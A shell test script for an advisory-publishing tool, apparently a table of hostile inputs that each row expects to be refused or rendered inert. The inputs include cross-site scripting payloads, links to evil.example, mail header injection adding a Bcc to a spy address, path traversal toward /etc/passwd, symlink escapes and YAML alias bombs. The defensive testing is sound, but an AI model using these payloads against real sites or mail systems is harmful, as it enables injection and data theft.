#!/bin/sh
# The hostile-input table (issue 9, point 2). One row per case: its name,
# the command it goes through (check, build, mail into the outbox, mail -n,
# new, preview, keys --check), its expected outcome, and the input, made
# here by the generators below (printf for NUL, CR/LF and invalid UTF-8,
# python for the big ones). An outcome is either
#   refused:TEXT  a non-zero exit and an error holding TEXT, which names
#                 the file and line (or the key, the folder, the address)
#   inert:CHECKS  exit 0, and each check passes (tests/hostile/inert.py):
#                 site     every page, the feed, the CVRF and CSAF documents
#                          of public/ hold nothing that runs: no script,
#                          event handler, javascript:/vbscript:/data: link;
#                          the feed is well-formed and feedparser reads it
#                 mail     every message of outbox/ read by python's email
#                          module: no header but tlpress's, one To, no Cc
#                          or Bcc, the decoded Subject as written (and as
#                          want_subject says), its HTML part inert
#                 preview  the preview folder's pages and messages, as above
#                 newfile  the advisory 'tlpress new' wrote checks, and its
#                          title reads back as given
# Every row also checks that the case's canary folder (outside public/,
# state/ and outbox/, where the symbolic links point) is unchanged, and
# that the command took at most LIMIT seconds (the 1 MiB and 100,000-deep
# inputs included). Each row gives one TAP line; the last line counts them.
# Cases already covered elsewhere: tests/invalid (one malformed key each),
# tests/cli/0022-hostile.t (every field at once), tests/unit/test_advisory.c
# (the parser's limits), tests/cli/0085-secrets.t (credentials).
. "$(dirname "$0")/lib.sh"
cd "$TOP" || exit 1
export TLPRESS_NOW=2026-11-28T12:00:00Z LC_ALL=C
PY=/usr/bin/python3
INERT=$TOP/tests/hostile/inert.py
LIMIT=${TLPRESS_HOSTILE_LIMIT:-8}

G=$(mktemp -d /tmp/tg.XXXXXX)
trap 'gpgconf --homedir "$G" --kill all 2>/dev/null; rm -rf "$G" "$TMP"' EXIT
trap 'exit 1' INT TERM HUP
if ! sh "$TOP/tests/gpg/mkhome.sh" "$G" >"$TMP/mk" 2>&1; then
	echo "Bail out! tests/gpg/mkhome.sh failed"
	exit 1
fi
fpr() { awk -v n="$1" '$1 == n { print $2 }' "$G/keys.txt"; }
VALID=$(fpr valid)
NOSIGN=$(fpr nosign)

# ---- generators: run in the case's folder; several join with '+' ----------

# next_gen [+ GENERATOR ARGS...]: the next generator of the row, if any
next_gen() {
	[ $# -eq 0 ] && return 0
	[ "$1" = + ] && shift
	"$@"
}

# adv [FIELD VALUE]... : adv/NAME.md, valid unless told otherwise. FIELDs:
# id (CCB-2026-0001), name (the file name without .md: the id), title
# ("Test advisory"), tlp (CLEAR), extra (front-matter lines after tlp),
# revs (the revisions, a flow list: one of 2026-11-20), body. Values are written as given; adv_b passes them through printf %b
# (\r, \0, \300 become bytes). Lines: 1 ---, 2 id, 3 title, 4 lang,
# 5 tlp, 6 extra or revisions, then ---, then the body.
adv_write() {
	_fmt=$1
	shift
	_id=CCB-2026-0001 _fname= _title='"Test advisory"' _tlp=CLEAR _extra= _body='Body text.'
	_revs='[{version: 1, date: 2026-11-20T10:00:00+01:00, summary: First}]'
	while [ $# -ge 2 ] && [ "$1" != + ]; do
		case $1 in
		id) _id=$2 ;;
		name) _fname=$2 ;;
		title) _title=$2 ;;
		tlp) _tlp=$2 ;;
		extra) _extra=$2 ;;
		revs) _revs=$2 ;;
		body) _body=$2 ;;
		*) echo "adv: unknown field '$1'" >&2; return 1 ;;
		esac
		shift 2
	done
	_file=adv/${_fname:-$_id}.md
	mkdir -p "$(dirname "$_file")"
	{
		printf -- '---\nid: '
		printf "$_fmt" "$_id"
		printf '\ntitle: '
		printf "$_fmt" "$_title"
		printf '\nlang: en\ntlp: '
		printf "$_fmt" "$_tlp"
		printf '\n'
		[ -n "$_extra" ] && printf "$_fmt\n" "$_extra"
		printf 'revisions: '
		printf "$_fmt\n" "$_revs"
		printf -- '---\n'
		printf "$_fmt\n" "$_body"
	} > "$_file"
	next_gen "$@"
}
adv() { adv_write '%s' "$@"; }
adv_b() { adv_write '%b' "$@"; }

# adv_py FIELD PYTHON-EXPRESSION: adv with that field's value computed
# (the 1 MiB title, the 100,000-deep bodies), the expression of 'n'
adv_py() {
	$PY -c "
import sys
f, e = sys.argv[1], sys.argv[2]
v = eval(e)
d = {'title': '\"Test advisory\"', 'extra': None, 'body': 'Body text.'}
d[f] = v
out = '---\nid: CCB-2026-0001\ntitle: ' + d['title'] + '\nlang: en\ntlp: CLEAR\n'
if d['extra']:
    out += d['extra'] + '\n'
out += 'revisions: [{version: 1, date: 2026-11-20T10:00:00+01:00, summary: First}]\n---\n'
out += d['body'] + '\n'
import os
os.makedirs('adv', exist_ok=True)
open('adv/CCB-2026-0001.md', 'w').write(out)
" "$1" "$2" || return 1
	shift 2
	next_gen "$@"
}

# site_key, pub_key, smtp_key, ids_key, top_key KEY VALUE: a configuration
# key (site.output, state, mail.outbox and the lists are always there)
site_key() { SITE="$SITE  $1: $2
"; shift 2; next_gen "$@"; }
pub_key() { PUB="$PUB  $1: $2
"; shift 2; next_gen "$@"; }
smtp_key() { SMTP="$SMTP  $1: $2
"; shift 2; next_gen "$@"; }
ids_key() { IDS="$IDS  $1: $2
"; shift 2; next_gen "$@"; }
# list_entry FLOW-MAPPING: one more list
list_entry() { LISTS="$LISTS  - $1
"; shift; next_gen "$@"; }
# members FORMAT: the members file of list ops (AMBER) and pub (CLEAR),
# through printf %b, with @VALID@ and @NOSIGN@ the test keys' fingerprints
members() {
	printf '%b\n' "$1" | sed "s/@VALID@/$VALID/g; s/@NOSIGN@/$NOSIGN/g" > ops.txt
	shift
	next_gen "$@"
}
# new_title FORMAT, new_opt OPTION VALUE: what 'tlpress new' is given
new_title() { printf '%b' "$1" > new.title; shift; next_gen "$@"; }
new_opt() { NEW_OPTS="$NEW_OPTS $1 $2"; shift 2; next_gen "$@"; }
# state_path PATH: the configuration's 'state' (default state)
state_path() { STATE=$1; shift; next_gen "$@"; }
# preview_id ID: what 'tlpress preview' is given (default CCB-2026-0001)
preview_id() { PREVIEW_ID=$1; shift; next_gen "$@"; }
# want_subject TEXT: the Subject every mailed message must decode to
want_subject() { printf '%s' "$1" > subject.want; shift; next_gen "$@"; }
# link PATH TARGET: a symbolic link (made with its folder)
link() { mkdir -p "$(dirname "$1")"; ln -s "$2" "$1"; shift 2; next_gen "$@"; }
# dir PATH MODE: a folder
dir() { mkdir -p "$1"; chmod "$2" "$1"; shift 2; next_gen "$@"; }
# stale_link: a site built with the advisory, its cvrf/ folder then made a
# link to the canary (holding the file a withdrawal deletes), and the
# advisory re-labelled AMBER: the next build must delete through it
stale_link() {
	adv
	conf
	"$TLPRESS" build -q -C t.yml >/dev/null 2>&1 || return 1
	cp public/cvrf/* canary/ && rm -r public/cvrf && ln -s ../canary public/cvrf || return 1
	sed -i 's/^tlp: CLEAR$/tlp: AMBER\nrecipients: [ops]/' adv/CCB-2026-0001.md
	next_gen "$@"
}

# The configuration of a case: two lists, everything in the case's folder,
# a signing key for the commands that mail (builds go faster unsigned);
# what the generators added
conf() {
	{
		[ -n "$PUB" ] && printf 'publisher:\n%s' "$PUB"
		case $r_cmd in
		mail*|preview|keys)
			printf 'signing:\n  key: signer@test.invalid\n  gnupghome: %s\n' "$G" ;;
		esac
		printf 'site:\n  output: public\n%s' "$SITE"
		[ -n "$SMTP" ] && printf 'smtp:\n%s' "$SMTP"
		[ -n "$IDS" ] && printf 'ids:\n%s' "$IDS"
		printf 'lists:\n'
		printf '  - {name: ops, address: ops@lists.test.invalid, tlp: AMBER, members: ops.txt}\n'
		printf '  - {name: pub, address: pub@lists.test.invalid, tlp: CLEAR, members: ops.txt}\n'
		printf '%s' "$LISTS"
		printf 'advisories: adv\ntemplates: %s\nstate: %s\n' "$TOP/templates" "$STATE"
		printf 'mail:\n  outbox: outbox\n'
	} > t.yml
	[ -f ops.txt ] || printf 'valid@test.invalid %s Org A\n' "$VALID" > ops.txt
}

# ---- the checks --------------------------------------------------------------

snap() { (cd "$1" && find . -printf '%p %y %s %m %l\n' | sort && find . -type f -exec cat {} +) | cksum; }

# inert_checks CHECKS: each one of the comma-separated list, in $C
inert_checks() {
	for _k in $(echo "$1" | tr , ' '); do
		case $_k in
		site)
			ls public/advisories/*.html >/dev/null 2>&1 ||
				{ echo "problem: no advisory was published"; return 1; }
			$PY "$INERT" site public || return 1 ;;
		mail)
			_m=$(find outbox -path '*/new/*' -type f 2>/dev/null | sort)
			[ -n "$_m" ] || { echo "problem: no message in the outbox"; return 1; }
			if [ -f subject.want ]; then
				$PY "$INERT" mail --subject "$(cat subject.want)" $_m || return 1
			else
				$PY "$INERT" mail $_m || return 1
			fi ;;
		preview)
			_p=$(sed -n 's/^preview of .* in //p' "$TMP/out" | head -1)
			[ -d "$_p" ] || { echo "problem: no preview folder"; return 1; }
			$PY "$INERT" html $(find "$_p" -name '*.html') || return 1
			_m=$(find "$_p" -name '*.eml')
			[ -z "$_m" ] || $PY "$INERT" mail $_m || return 1 ;;
		newfile)
			_f=$(head -1 "$TMP/out")
			[ -f "$_f" ] || { echo "problem: no file '$_f'"; return 1; }
			"$TLPRESS" check "$_f" >/dev/null || { echo "problem: $_f does not check"; return 1; }
			$PY -c '
import sys, yaml
text = open(sys.argv[1], encoding="utf-8").read()
fm = yaml.safe_load(text.split("\n---\n")[0][4:])
want = open(sys.argv[2], encoding="utf-8").read()
if fm["title"] != want:
    print("problem: title %r, not %r" % (fm["title"], want))
    sys.exit(1)' "$_f" new.title || return 1 ;;
		*)
			echo "problem: no check '$_k'"
			return 1 ;;
		esac
	done
	return 0
}

NROWS=0 NREFUSED=0 NINERT=0

# row NAME COMMAND OUTCOME GENERATOR [ARGS...] [+ GENERATOR ARGS...]
row() {
	r_name=$1 r_cmd=$2 r_want=$3
	shift 3
	NROWS=$((NROWS + 1))
	C=$TMP/case-$NROWS
	mkdir -p "$C/canary"
	printf 'canary\n' > "$C/canary/f"
	SITE= PUB= SMTP= IDS= LISTS= NEW_OPTS= PREVIEW_ID=CCB-2026-0001 STATE=state
	r_why= r_ms=0
	# the generators set variables for conf: in this shell, not a subshell
	cd "$C" || exit 1
	"$@" || r_why="the generator failed"
	if [ -z "$r_why" ]; then
		[ -f t.yml ] || conf
		# the canary as it is now (stale_link puts the file to delete in it)
		r_before=$(snap canary)
		r_t0=$(date +%s%N)
		case $r_cmd in
		check) run timeout 120 "$TLPRESS" check -C t.yml adv ;;
		build) run timeout 120 "$TLPRESS" build -q -C t.yml ;;
		mail) run timeout 120 "$TLPRESS" mail -C t.yml ;;
		mail-n) run timeout 120 "$TLPRESS" mail -n -C t.yml ;;
		new) run timeout 120 "$TLPRESS" new -C t.yml --no-edit $NEW_OPTS \
			"$(cat new.title 2>/dev/null || echo Title)" ;;
		preview) TMPDIR=$C run timeout 120 "$TLPRESS" preview -C t.yml "$PREVIEW_ID" ;;
		keys) run timeout 120 "$TLPRESS" keys --check -C t.yml ;;
		*) r_why="no command '$r_cmd'" ;;
		esac
		r_ms=$((($(date +%s%N) - r_t0) / 1000000))
		case $r_want in
		refused:*)
			NREFUSED=$((NREFUSED + 1))
			if [ "$rc" -eq 0 ]; then
				r_why="exit 0, not refused"
			elif ! grep -qF -- "${r_want#refused:}" "$TMP/out"; then
				r_why="the output lacks: ${r_want#refused:}"
			fi ;;
		inert:*)
			NINERT=$((NINERT + 1))
			if [ "$rc" -ne 0 ]; then
				r_why="exit $rc"
			elif ! inert_checks "${r_want#inert:}" > "$TMP/checks" 2>&1; then
				r_why="not inert: $(head -3 "$TMP/checks")"
			fi ;;
		*) r_why="no outcome '$r_want'" ;;
		esac
		[ -z "$r_why" ] && [ "$(snap canary)" != "$r_before" ] &&
			r_why="something was written outside: the canary folder changed"
		[ -z "$r_why" ] && [ "$r_ms" -gt $((LIMIT * 1000)) ] &&
			r_why="took $r_ms ms, more than $LIMIT s"
	fi
	cd "$TOP" || exit 1
	[ -z "$r_why" ]
	ok $? "$r_name: $r_cmd ${r_want%%:*} (${r_want#*:}) [$r_ms ms]"
	if [ -n "$r_why" ]; then
		diag "$r_why"
		sed -n '1,8p' "$TMP/out" | sed 's/^/#   /'
	fi
	rm -rf "$C"
}

A=adv/CCB-2026-0001.md
AR=adv/CCBR-2026-0001.md

# ---- the table -----------------------------------------------------------------
# script tags and event handlers in every text field and in the body
row title-script          build  inert:site  adv title '"<script>alert(1)</script>"'
row summary-handler       build  inert:site  adv extra 'summary: "<img src=x onerror=alert(1)> x\" onmouseover=\"alert(2)"'
row products-breakout     build  inert:site  adv extra 'products: [{vendor: "\" onmouseover=\"alert(1)", product: "<svg onload=alert(2)>", affected: "< 1.0 ]]>", fixed: "1.0\"><script>alert(3)</script>"}]'
row cwe-name-script       build  inert:site  adv extra 'cwes: [{id: CWE-79, name: "</title><script>alert(1)</script>"}]'
row reference-title       build  inert:site  adv extra 'references: [{url: "https://x.example/a?b=1&c=2'"'"'onmouseover=alert(1)", title: "<img src=x onerror=alert(2)>"}]'
row revision-summaries    build  inert:site  adv revs '[{version: 1, date: 2026-11-20T10:00:00+01:00, summary: "<script>alert(1)</script>"}, {version: 2, date: 2026-11-21T10:00:00+01:00, summary: "<img src=x onerror=alert(2)> ]]> --> [a](javascript:alert(3))"}]'
row body-script           build  inert:site  adv_b body '<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>'
row body-handlers         build  inert:site  adv body '<img src=x onerror=alert(1)> <svg onload=alert(2)> <details open ontoggle=alert(3)> <x onclick=alert(4)>'
row body-frames-forms     build  inert:site  adv body '<iframe src="https://evil.example/"></iframe> <style>*{}</style> <form action="https://evil.example/"><input></form> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
row heading-script        build  inert:site  adv_b body 'Intro.\n\n## <script>alert(1)</script> <img src=x onerror=alert(2)>\n\nText.'
row config-text-fields    build  inert:site  adv + site_key title '"<script>alert(1)</script>"' + pub_key name '"<img src=x onerror=alert(2)>"' + pub_key contact_details '"<svg onload=alert(3)> ]]>"' + pub_key issuing_authority '"\" onmouseover=\"alert(4)"'
row mail-html-part        mail   inert:mail  adv title '"<script>alert(1)</script>"' body '<img src=x onerror=alert(2)> [a](javascript:alert(3))' + want_subject '[TLP:CLEAR] CCB-2026-0001: <script>alert(1)</script>'
# javascript:, data: and vbscript: links
row link-javascript       build  inert:site  adv body '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) <javascript:alert(3)> [c]( javascript:alert(4))'
row link-js-entities      build  inert:site  adv body '[a](&#106;avascript:alert(1)) [b](java&#x09;script:alert(2)) [c](javascript&colon;alert(3))'
row link-data             build  inert:site  adv body '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![b](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'
row link-vbscript         build  inert:site  adv body '[a](vbscript:msgbox(1)) <a href="vbscript:msgbox(2)">b</a>'
row link-definitions      build  inert:site  adv_b body '[x][r] and [y]\n\n[r]: javascript:alert(1)\n[y]: data:text/html,<script>alert(2)</script>'
row link-raw-anchor       build  inert:site  adv body '<a href="javascript:alert(1)">a</a> <a href="	javascript:alert(2)">b</a>'
row reference-javascript  check  "refused:$A:6:14: error: 'references': 'javascript:alert(1)': only http and https" adv extra 'references: ["javascript:alert(1)"]'
row reference-disguise    check  "refused:$A:6:14: error: 'references': 'https://vendor.example@evil.example/': the URL holds a user name or password before its host" adv extra 'references: ["https://vendor.example@evil.example/"]'
row security-txt-js       build  "refused:t.yml:3:17: error: 'site.security_txt': 'javascript:alert(1)' is not a contact URI" adv + site_key security_txt '"javascript:alert(1)"'
# ]]>, --, NUL and other control characters
row cdata-end             build  inert:site  adv title '"A ]]> B ]]]]> C <![CDATA[ D"' extra 'summary: "S ]]> <![CDATA[ x ]]>"' body 'Para ]]> and <![CDATA[ z ]]> and `]]>`.'
row comment-dashes        build  inert:site  adv title '"-- --> <!-- x --!>"' body 'Text -- --> <!-- <!-- --!> end -->'
row nul-byte-body         check  "refused:$A:8:2: error: NUL byte in the file" adv_b body 'a\0b'
row nul-escape-title      check  "refused:$A:3:8: error: 'title' holds a NUL character" adv title '"a\0b"'
row escape-title          check  "refused:$A:3:8: error: 'title' holds the control character U+001B" adv title '"\e[31mred"'
row c1-control-title      check  "refused:$A:3:8: error: 'title' holds the control character U+009B" adv title '"\u009b31m"'
row bell-body             check  "refused:$A:8:6: error: control character U+0007 in the file" adv_b body 'ring \007'
row delete-body           check  "refused:$A:8:2: error: control character U+007F in the file" adv_b body 'a\177b'
row lone-cr-body          check  "refused:$A:8:2: error: a carriage return without a line feed" adv_b body 'a\rb'
row bidi-override         build  inert:site  adv title '"gnp.\u202Eexe"' body 'fdp.‮exe'
row bidi-override-mail    mail   inert:mail  adv title '"gnp.\u202Eexe"' body 'fdp.‮exe ⁦x⁩' + want_subject '[TLP:CLEAR] CCB-2026-0001: gnp.exe'
# CR/LF in titles, ids, addresses and list names: mail header injection
row title-crlf            mail   "refused:$A:3:8: error: 'title' must be a single line" adv title '"x\r\nBcc: spy@evil.example"'
row title-line-separator  mail-n "refused:$A:3:8: error: 'title' must be a single line" adv title '"x\u2028Bcc: spy@evil.example"'
row title-encoded-word    mail   inert:mail  adv title '"=?utf-8?q?x=0D=0ABcc:_spy@evil.example?= Bcc: spy@evil.example"' + want_subject '[TLP:CLEAR] CCB-2026-0001: =?utf-8?q?x=0D=0ABcc:_spy@evil.example?= Bcc: spy@evil.example'
row id-crlf               mail-n "refused:$A:2:5: error: 'id' must be a single line" adv id '"CCB-2026-0001\r\nBcc: spy@evil.example"' name CCB-2026-0001
row recipients-crlf       mail-n "refused:$AR:6:14: error: 'recipients' must be a single line" adv id CCBR-2026-0001 tlp AMBER extra 'recipients: ["soc@org.example\r\nBcc: spy@evil.example"]'
row recipients-two        mail-n "refused:$AR:6:14: error: 'recipients': 'soc@org.example, spy@evil.example' is neither a list name nor an e-mail address" adv id CCBR-2026-0001 tlp AMBER extra 'recipients: ["soc@org.example, spy@evil.example"]'
row list-address-crlf     mail-n "refused:t.yml:9:27: error: list 'evil': 'address' must be a single line" adv + list_entry '{name: evil, address: "ev@lists.example\r\nBcc: spy@evil.example", tlp: AMBER, members: ops.txt}'
row list-name-crlf        mail-n "refused:t.yml:9:12: error: lists entry 3: 'name' must be a single line" adv + list_entry '{name: "evil\r\nBcc: spy@evil.example", address: ev@lists.example, tlp: AMBER, members: ops.txt}'
row member-cr             mail-n "refused:ops.txt:1:19: error: control character or line break inside a line" adv + members 'valid@test.invalid\r @VALID@ Org'
row member-two-addresses  mail-n "refused:ops.txt:1:1: error: 'valid@test.invalid,spy@evil.example' is not a plain e-mail address" adv + members 'valid@test.invalid,spy@evil.example @VALID@ Org'
row from-name-crlf        mail-n "refused:t.yml:7:14: error: 'smtp.from_name' must be a single line" adv + smtp_key from_name '"CSIRT\r\nBcc: spy@evil.example"'
row from-crlf             mail-n "refused:t.yml:7:9: error: 'smtp.from' must be a single line" adv + smtp_key from '"a@csirt.example\r\nBcc: spy@evil.example"'
row publisher-name-crlf   mail-n "refused:t.yml:2:9: error: 'publisher.name' must be a single line" adv + pub_key name '"CSIRT\r\nBcc: spy@evil.example"'
row new-title-crlf        new    "refused:tlpress new: the title must be one line" new_title 'Title\r\nid: CCB-2026-9999'
row new-title-hostile     new    inert:newfile new_title '"]]> --- #x: &a *b {c} [d] <script>alert(1)</script> \\\\ %% !!binary'
# ids that leave the folder: ../, /, \, %2e, reserved device names
row id-dotdot             build  "refused:$A:2:5: error: 'id': '../../../tmp/x' is not of the form PREFIX-YYYY-NNNN" adv id '../../../tmp/x' name CCB-2026-0001
row id-slash              build  "refused:$A:2:5: error: 'id': 'CCB-2026-0001/../../x' is not of the form" adv id 'CCB-2026-0001/../../x' name CCB-2026-0001
row id-backslash          build  "refused:$A:2:5: error: 'id': 'CCB-2026-0001\..\..\x' is not of the form" adv id 'CCB-2026-0001\..\..\x' name CCB-2026-0001
row id-percent            build  "refused:$A:2:5: error: 'id': '%2e%2e%2fCCB-2026-0001' is not of the form" adv id '"%2e%2e%2fCCB-2026-0001"' name CCB-2026-0001
row id-device-name        build  "refused:adv/CON.md:2:5: error: 'id': 'CON' is not of the form" adv id CON
row new-lang-traversal    new    "refused:tlpress new: --lang: '../../x' is not a language tag" new_opt --lang ../../x
row ids-prefix-traversal  new    "refused:t.yml:4:11: error: 'ids.public': '../{year}-' does not give ids of the form" ids_key public '"../{year}-"' + new_opt --tlp CLEAR
row preview-encoded-path  preview "refused:tlpress preview: no advisory '..%2F..%2Fetc%2Fpasswd'" adv + preview_id ..%2F..%2Fetc%2Fpasswd
# symbolic links in public/, state/ and outbox/ pointing outside
row public-folder-link    build  "refused:refusing 'public/advisories': a symbolic link or not a folder" adv + link public/advisories ../canary
row public-file-link      build  inert:site  adv + link public/index.html ../canary/f
row public-stale-link     build  "refused:refusing 'public/cvrf': a symbolic link or not a folder" stale_link
row state-link            build  "refused:state folder 'state' is not a folder (a symbolic link is refused)" adv + link state canary
row state-link-slash      build  "refused:state folder 'state/' is not a folder (a symbolic link is refused)" adv + link state canary + state_path state/
row state-lock-link       build  "refused:cannot open lock file 'state/lock': Too many levels of symbolic links" adv + dir state 700 + link state/lock ../canary/f
row state-cache-link      build  inert:site  adv + dir state 700 + link state/cache.sqlite ../canary/f
row state-journal-link    mail   "refused:journal 'state/journal.sqlite' is not a regular file" adv + dir state 700 + link state/journal.sqlite ../canary/f
row state-ids-link        new    "refused:'state/ids' is not a regular file (a symbolic link is refused)" dir state 700 + link state/ids ../canary/f
row outbox-recipient-link mail   "refused:refusing the folder 'outbox/valid@test.invalid': it is a symbolic link" adv + link outbox/valid@test.invalid ../canary
row outbox-new-link       mail   "refused:refusing the folder 'outbox/valid@test.invalid/new': it is a symbolic link" adv + dir outbox/valid@test.invalid/cur 700 + dir outbox/valid@test.invalid/tmp 700 + link outbox/valid@test.invalid/new ../../canary
# an advisory that claims the id of another
row id-claims-other       build  "refused:adv/CCB-2026-0002.md:2:5: error: file name 'CCB-2026-0002.md' does not match its 'id' CCB-2026-0001" adv + adv name CCB-2026-0002 title '"Impostor"'
row id-twice-in-folders   mail   "refused:adv/b/CCB-2026-0001.md: error: duplicate 'id' CCB-2026-0001, also used by adv/a/CCB-2026-0001.md: no mail for either" adv name a/CCB-2026-0001 + adv name b/CCB-2026-0001 title '"Impostor"'
row id-zero-padded        build  "refused:error: duplicate 'id' CCB-2026-0001, also used by adv/CCB-2026-00001.md as CCB-2026-00001: neither is published" adv + adv id CCB-2026-00001 title '"Impostor"'
# a YAML bomb, 10,000 keys, a 1 MiB title
row yaml-alias-bomb       check  "refused:$A:6:5: error: YAML anchors ('&name') are not allowed (in 'a0')" adv_py extra "'a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n' + ''.join('a%d: &a%d [%s]\n' % (i, i, ','.join(['*a%d' % (i - 1)] * 9)) for i in range(1, 10)).rstrip()"
row yaml-10000-keys       check  "refused:$A:2002:1: error: too many entries in one list or mapping (at most 2000)" adv_py extra "'\n'.join('k%05d: v' % i for i in range(10000))"
row yaml-100000-deep      check  "refused:$A:6:19: error: front matter is nested too deeply (in 'x')" adv_py extra "'x: ' + '[' * 100000"
row title-1mib            check  "refused:$A: error: file is 1048" adv_py title "'\"' + 'A' * 1048576 + '\"'"
row title-1mb             check  "refused:$A:3:8: error: 'title' is 1000000 characters long; at most 200 are allowed" adv_py title "'\"' + 'A' * 1000000 + '\"'"
# Markdown 100,000 deep
row quotes-100000-line    check  "refused:$A:8:1: error: line too long (at most 65536)" adv_py body "'>' * 100000 + ' deep'"
row quotes-100000-lines   check  "refused:$A:8:1: error: lists or block quotes nest more than 32 levels deep" adv_py body "'\n'.join(['>' * 1000] * 100) + ' deep'"
row lists-30000-deep      check  "refused:$A:8:1: error: lists or block quotes nest more than 32 levels deep" adv_py body "'- ' * 30000 + 'deep'"
row links-100000-nested   check  "refused:error: too many brackets in paragraphs (at most 16000000)" adv_py body "'\n'.join(['[' * 50000] * 2) + '\nx\n' + '\n'.join(['](u)' * 10000] * 10)"
row links-100000-siblings build  inert:site  adv_py body "'[a](javascript:x) [b](c) [d](e) [f](g)\n\n' * 25000"
row html-100000-nested    build  inert:site  adv_py body "'\n'.join(['<a>' * 10000] * 10) + '<b onclick=alert(1)><a href=javascript:alert(2)>x'"
row emphasis-100000       build  inert:site  adv_py body "'\n'.join(['*a _b ' * 10000] * 10)"
# invalid and overlong UTF-8
row overlong-2-bytes      check  "refused:$A:3:10: error: invalid UTF-8 (byte 0xC0)" adv_b title '"a\300\257b"'
row overlong-3-bytes      check  "refused:$A:8:2: error: invalid UTF-8 (byte 0xE0)" adv_b body 'a\340\200\257b'
row utf16-surrogate       check  "refused:$A:8:2: error: invalid UTF-8 (byte 0xED)" adv_b body 'a\355\240\200b'
row above-u10ffff         check  "refused:$A:8:2: error: invalid UTF-8 (byte 0xF4)" adv_b body 'a\364\220\200\200b'
row latin1-title          check  "refused:$A:3:12: error: invalid UTF-8 (byte 0xE9) (in 'title')" adv_b title '"caf\351"'
row truncated-sequence    check  "refused:$A:8:2: error: invalid UTF-8 (byte 0xE2)" adv_b body 'a\342\202'
row members-overlong      mail-n "refused:ops.txt:1: error: invalid UTF-8 in the members file" adv + members 'valid@test.invalid @VALID@ Org \300\257'
row new-title-overlong    new    "refused:tlpress new: the title is not UTF-8" new_title 'a \300\257 b'
# a member line whose fingerprint does not match the key's address
row member-fpr-mismatch   mail   "refused:notice of CCBR-2026-0001 v1 to valid@test.invalid (TLP:AMBER, signed): their key needs attention (key does not carry this address)" adv id CCBR-2026-0001 tlp AMBER extra 'recipients: [ops]' + members 'valid@test.invalid @NOSIGN@ Org'
row member-fpr-keys-check keys   "refused:recipient valid@test.invalid (ops): key $NOSIGN does not carry this address" adv + members 'valid@test.invalid @NOSIGN@ Org'
row member-short-key-id   mail-n "refused:ops.txt:1:20: error: 'CDEB5EC5B1FFF126' is not a fingerprint" adv + members 'valid@test.invalid CDEB5EC5B1FFF126 Org'
# what an analyst sees first
row preview-hostile       preview inert:preview adv_b id CCBR-2026-0001 tlp GREEN extra 'summary: "<script>alert(1)</script>"\nrecipients: [ops]' title '"<img src=x onerror=alert(2)> =?utf-8?q?=0D=0ABcc:_x@evil.example?="' body 'Intro <svg onload=alert(3)>.\n\n## Details <script>alert(4)</script> [TLP:AMBER]\n\n[x](javascript:alert(5))' + preview_id CCBR-2026-0001

[ "$NROWS" -ge 40 ] && [ $((NREFUSED + NINERT)) -eq "$NROWS" ]
ok $? "$NROWS cases: $NREFUSED refused, $NINERT inert"
done_testing
